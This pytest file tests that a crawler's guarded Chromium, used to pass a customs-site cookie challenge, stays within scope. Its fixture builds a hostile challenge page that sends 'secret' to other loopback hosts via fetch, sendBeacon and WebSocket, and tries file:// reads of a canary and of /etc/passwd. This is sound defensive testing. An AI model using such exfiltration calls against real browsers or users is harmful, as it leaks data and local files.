"""Issue #14: the Chromium that passes the customs challenge stays in the crawl's scope.

A hostile customs "mirror" on 127.0.0.1 answers the list page with a 412 challenge page
that earns its cookie and also tries every way out a page has: stylesheets, scripts and
frames on other hosts, redirects (direct, through an in-scope hop, to file:), fetch,
sendBeacon, a WebSocket, a popup, preconnect and DNS prefetch. "Other hosts" are servers
on another port of 127.0.0.1 and on 127.0.0.2; they log every connection they accept. A
canary file watched with inotify shows that no file URL is opened.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path

import hostile
import pytest

from crawler.challenge import BrowserGuard, ChallengeMiddleware, fence
from crawler.run import crawl
from crawler.scope import Scope
from crawler.sources import get_source
from store import catalogue

ROOT = "/customs/302249/302266/302267"
TEXT = ("<p>【发布单位】海关总署</p><p>根据《中华人民共和国出口管制法》，现将有关事项公告如下。"
        "自公告之日起，对所列物项实施出口管制，未经许可不得出口。</p>")
COOKIE = "rw_clearance=passed"

needs_chromium = pytest.mark.skipif(shutil.which("chromium") is None,
                                    reason="Debian's chromium is not installed (make test installs it)")


class Handler(hostile.HostileHandler):
    do_POST = do_PUT = do_OPTIONS = do_DELETE = hostile.HostileHandler.do_GET  # noqa: N815


class Server(hostile.HostileServer):
    """The hostile server on any loopback address; counts every connection it accepts,
    so a preconnect that sends no request is seen too."""

    def __init__(self, host: str) -> None:
        socketserver.TCPServer.__init__(self, (host, 0), Handler)
        self.routes, self.log, self.lock = {}, [], threading.Lock()
        self.connections = 0

    def get_request(self):
        accepted = super().get_request()
        with self.lock:
            self.connections += 1
        return accepted


def serve(host: str = "127.0.0.1") -> Server:
    server = Server(host)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Canary:
    """A file and an inotify watch on it: was it opened or read since the watch began?"""

    IN_ACCESS, IN_OPEN = 0x1, 0x20

    def __init__(self, path: Path) -> None:
        path.write_text("canary: the challenge browser read a local file\n")
        self.path = path
        self.libc = ctypes.CDLL("libc.so.6", use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_NONBLOCK)
        if self.fd < 0 or self.libc.inotify_add_watch(
                self.fd, str(path).encode(), self.IN_ACCESS | self.IN_OPEN) < 0:
            pytest.skip("inotify is not available")

    def touched(self) -> bool:
        try:
            return bool(os.read(self.fd, 4096))
        except BlockingIOError:
            return False

    def close(self) -> None:
        os.close(self.fd)


def hostile_challenge(site: str, o1: str, o2: str, canary: Path) -> bytes:
    ws = o1.replace("http://", "ws://")
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title></title>
<link rel="preconnect" href="{o2}"><link rel="dns-prefetch" href="{o2}">
<link rel="preconnect" href="{o1}"><link rel="prefetch" href="{o1}/prefetch">
<link rel="stylesheet" href="{o1}/style.css"><script src="{o2}/script.js"></script>
</head><body>
<img src="{ROOT}/hop1.gif"><img src="{ROOT}/away.gif"><img src="file://{canary}">
<iframe src="{ROOT}/tofile.html"></iframe><iframe src="{o2}/frame.html"></iframe>
<script>
(function () {{
  fetch("{o1}/fetch", {{method: "POST", body: "secret", mode: "no-cors"}}).catch(function () {{}});
  fetch("{ROOT}/fetch-away").catch(function () {{}});
  fetch("file://{canary}").catch(function () {{}});
  navigator.sendBeacon("{o2}/beacon", "secret");
  try {{ new WebSocket("{ws}/socket"); }} catch (e) {{}}
  window.open("{o2}/popup.html");
  document.cookie = "{COOKIE}; path=/";
  setTimeout(function () {{ location.reload(); }}, 300);
}})();
</script></body></html>""".encode()


@pytest.fixture
def servers(tmp_path) -> Iterator[tuple[Server, Server, Server, Canary]]:
    o1, o2, site = serve(), serve("127.0.0.2"), serve()
    canary = Canary(tmp_path / "canary.txt")
    challenge = hostile_challenge(site.url, o1.url, o2.url, canary.path)

    def gated(body: bytes):
        def answer(handler):
            if COOKIE in (handler.headers.get("Cookie") or ""):
                return 200, {"Content-Type": "text/html; charset=utf-8"}, body
            return 412, {"Content-Type": "text/html; charset=utf-8"}, challenge
        return answer

    gif = (200, {"Content-Type": "image/gif"}, b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
    site.routes.update({
        f"{ROOT}/index.html": gated(f"<html><body><ul><li><a href='{ROOT}/1/index.html'>"
                                    "海关总署公告2026年第1号</a></li></ul></body></html>".encode()),
        f"{ROOT}/1/index.html": gated(hostile.page("海关总署公告2026年第1号", TEXT)),
        f"{ROOT}/hop1.gif": hostile.redirect(f"{ROOT}/hop2.gif"),  # in scope, then out
        f"{ROOT}/hop2.gif": hostile.redirect(f"{o1.url}/chained.gif"),
        f"{ROOT}/away.gif": hostile.redirect(f"{o2.url}/away.gif"),
        f"{ROOT}/tofile.html": hostile.redirect(f"file://{canary.path}"),
        f"{ROOT}/fetch-away": hostile.redirect(f"{o1.url}/fetched", 307),
        "/favicon.ico": lambda _h: gif,
    })
    for other in (o1, o2):
        other.routes.update({p: (lambda _h: gif) for p in ("/chained.gif", "/away.gif")})
    yield site, o1, o2, canary
    canary.close()
    for server in (site, o1, o2):
        server.shutdown()
        server.server_close()


@needs_chromium
def test_the_challenge_browser_never_leaves_the_declared_host(servers, db_path):
    site, o1, o2, canary = servers
    runs = crawl(["gacc"], db_path, mirror=site.url, timeout=180,
                 overrides={"ROBOTSTXT_OBEY": False, "DOWNLOAD_DELAY": 0})
    # the browser earned the cookie and the crawl went on plainly
    assert (runs[0]["new_documents"], runs[0]["errors"]) == (1, 0), runs
    paths = site.paths()
    assert paths.count(f"{ROOT}/index.html") >= 3  # plain 412, the browser's 412, plain 200
    # the guard followed the in-scope hop and asked for what redirected away, no further
    assert {f"{ROOT}/hop1.gif", f"{ROOT}/hop2.gif", f"{ROOT}/away.gif"} <= set(paths)
    assert {entry["host"] for entry in site.log} == {site.url.removeprefix("http://")}
    # nothing, not even a connection, reached another port or another address
    assert (o1.connections, o1.paths(), o2.connections, o2.paths()) == (0, [], 0, [])
    assert not canary.touched()
    db = catalogue.open_db(db_path)
    assert db.execute("select count(*) from versions where text like '%canary%'").fetchone()[0] == 0

    # the same page in an unguarded Chromium does leave: the test can see a leak
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"),
                                             args=["--no-sandbox", "--disable-gpu"])
        try:
            browser.new_page().goto(f"{site.url}{ROOT}/index.html")
            browser.contexts[0].pages[0].wait_for_timeout(1000)
        finally:
            browser.close()
    assert o1.paths() and o2.connections > 0
    canary.path.read_text()
    assert canary.touched()  # and the watch does see an open


def test_fence_resolves_only_the_scope_hosts():
    from scrapy.settings import Settings

    from crawler import settings as project

    source = get_source("gacc")
    for mirror, expected in ((None, "MAP * ~NOTFOUND, EXCLUDE www.customs.gov.cn"),
                             ("http://127.0.0.1:8700", "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1")):
        settings = Settings({"PLAYWRIGHT_LAUNCH_OPTIONS": project.PLAYWRIGHT_LAUNCH_OPTIONS})
        fence(settings, Scope(source, mirror))
        fence(settings, Scope(source, mirror))  # twice: still one rule
        args = settings.getdict("PLAYWRIGHT_LAUNCH_OPTIONS")["args"]
        assert [a for a in args if a.startswith("--host-resolver")] == [
            f"--host-resolver-rules={expected}"]
        assert set(project.PLAYWRIGHT_LAUNCH_OPTIONS["args"]) < set(args)


def test_every_browser_request_gets_a_guard():
    """Not only the challenge's: any request sent to the browser (a JavaScript list the
    spider renders) gets the guard as its page init callback, in the source's context."""
    from types import SimpleNamespace

    from scrapy import Request

    scope = Scope(get_source("gacc"), "http://127.0.0.1:8700")
    crawler = SimpleNamespace(stats=SimpleNamespace(inc_value=lambda *a: None),
                              spider=SimpleNamespace(name="gacc", scope=scope))
    middleware = ChallengeMiddleware(crawler)
    plain = Request("http://127.0.0.1:8700/customs/302249/302266/302267/index.html")
    middleware.process_request(plain)
    assert "regwatch_guard" not in plain.meta
    rendered = Request(plain.url, meta={"playwright": True})
    middleware.process_request(rendered)
    guard = rendered.meta["regwatch_guard"]
    assert isinstance(guard, BrowserGuard) and guard.scope is scope
    assert rendered.meta["playwright_page_init_callback"] == guard.install
    assert rendered.meta["playwright_context"] == "regwatch-gacc"
    assert rendered.meta["playwright_context_kwargs"] == {"service_workers": "block"}
    assert guard.refuse("http://127.0.0.1:8701/x") and guard.refuse("file:///etc/passwd")
    assert guard.refuse(plain.url) is None
